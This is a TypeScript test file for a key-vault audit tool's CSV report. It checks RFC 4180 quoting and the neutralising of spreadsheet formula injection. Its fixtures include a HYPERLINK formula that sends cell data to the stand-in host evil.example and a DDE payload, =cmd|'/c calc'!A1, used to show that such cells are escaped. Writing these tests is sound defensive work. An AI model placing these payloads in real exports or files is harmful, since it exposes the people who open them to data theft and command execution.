import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvCell, renderCsv } from '../../../src/cli/reports/csv.js';
import { type FindingRow, type ScanRow, findingRowSchema } from '../../../src/findings/schema.js';
import { demoScan } from '../runCli.js';

/** A strict RFC 4180 reader: CRLF-terminated records, quoted fields with doubled quotes; anything else throws. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else quoted = false;
      continue;
    }
    if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      i += 1;
    } else if (c === '\r' || c === '\n' || c === '"') throw new Error(`bare ${JSON.stringify(c)} at ${i}: not RFC 4180`);
    else field += c;
  }
  if (quoted || field !== '' || record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
}

const columns = Object.keys(findingRowSchema.shape) as (keyof FindingRow)[];
/** What a finding's cell says: text as is, dynamic columns as compact JSON, null as nothing. */
const cellText = (value: unknown) => (value === null ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value));

let demo: { scan: ScanRow; findings: FindingRow[] };
beforeAll(async () => {
  demo = await demoScan();
});

describe('a CSV cell', () => {
  it.each([
    { case: 'plain text stays as it is', value: 'kv-payments-prod', cell: 'kv-payments-prod' },
    { case: 'a comma is quoted', value: 'a,b', cell: '"a,b"' },
    { case: 'a quote is doubled inside quotes', value: 'say "hi"', cell: '"say ""hi"""' },
    { case: 'a line break is quoted', value: 'one\r\ntwo\nthree', cell: '"one\r\ntwo\nthree"' },
    { case: 'an equals sign later on is harmless', value: 'owner=team-a', cell: 'owner=team-a' },
    { case: 'an empty string is an empty cell', value: '', cell: '' },
    { case: 'null is an empty cell', value: null, cell: '' },
    { case: 'a boolean', value: true, cell: 'true' },
    { case: 'a count', value: 0, cell: '0' },
    { case: 'a string array is compact JSON', value: ['audit', 'allLogs'], cell: '"[""audit"",""allLogs""]"' },
    { case: 'an empty array', value: [], cell: '[]' },
    { case: 'an object is compact JSON, its = left inside', value: { '=k': '=v' }, cell: '"{""=k"":""=v""}"' },
  ])('$case', ({ value, cell }) => {
    expect(csvCell(value)).toBe(cell);
  });

  // OWASP CSV Injection: a cell a spreadsheet would evaluate starts with ' and is read as text.
  it.each([
    { start: '=', value: '=HYPERLINK("https://evil.example/?"&A1,"open")', cell: `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"` },
    { start: '=', value: "=cmd|'/c calc'!A1", cell: "'=cmd|'/c calc'!A1" },
    { start: '+', value: '+1+cmd', cell: "'+1+cmd" },
    { start: '-', value: '-2+3', cell: "'-2+3" },
    { start: '@', value: '@SUM(1+1)', cell: "'@SUM(1+1)" },
    { start: 'tab', value: '\t=1+1', cell: "'\t=1+1" },
    { start: 'CR', value: '\r=1+1', cell: `"'\r=1+1"` },
    { start: 'LF', value: '\n=1+1', cell: `"'\n=1+1"` },
    { start: 'NUL', value: '\0=1+1', cell: "'\0=1+1" },
  ])('a cell that starts with $start is neutralised: $value', ({ value, cell }) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe('kv-audit -o csv', () => {
  it("starts with a header naming the findings table's columns, in schema order", () => {
    expect(readCsv(renderCsv(demo.scan, demo.findings))[0]).toEqual(columns);
  });

  it('has one CRLF-terminated record per finding, each reading back as the finding', () => {
    expect(demo.findings).toHaveLength(21);
    const records = readCsv(renderCsv(demo.scan, demo.findings));
    expect(records.slice(1)).toEqual(demo.findings.map((finding) => columns.map((column) => cellText(finding[column]))));
  });

  it('keeps a hostile finding to its own record, every formula neutralised and every value intact', () => {
    const [first] = demo.findings;
    const hostile = findingRowSchema.parse({
      ...first,
      ResourceName: "=cmd|'/c calc'!A1",
      Detail: 'line one,\r\n"line two"\n@line three',
      Tags: { '@owner': '+1', note: '-2' },
      AuditSettings: ['=setting'],
    });
    const records = readCsv(renderCsv(demo.scan, [hostile]));
    expect(records).toHaveLength(2);
    expect(Object.fromEntries(columns.map((column, i) => [column, records[1]![i]]))).toMatchObject({
      ResourceName: "'=cmd|'/c calc'!A1",
      Detail: 'line one,\r\n"line two"\n@line three',
      Tags: '{"@owner":"+1","note":"-2"}',
      AuditSettings: '["=setting"]',
    });
  });

  it('has its columns listed in docs/operations.md, in the same order', () => {
    expect(readFileSync(new URL('../../../docs/operations.md', import.meta.url), 'utf8').replace(/\s+/g, ' ')).toContain(columns.map((c) => `\`${c}\``).join(', '));
  });

  it('is a header alone when there are no findings', () => {
    expect(renderCsv(demo.scan, [])).toBe(`${columns.join(',')}\r\n`);
  });
});
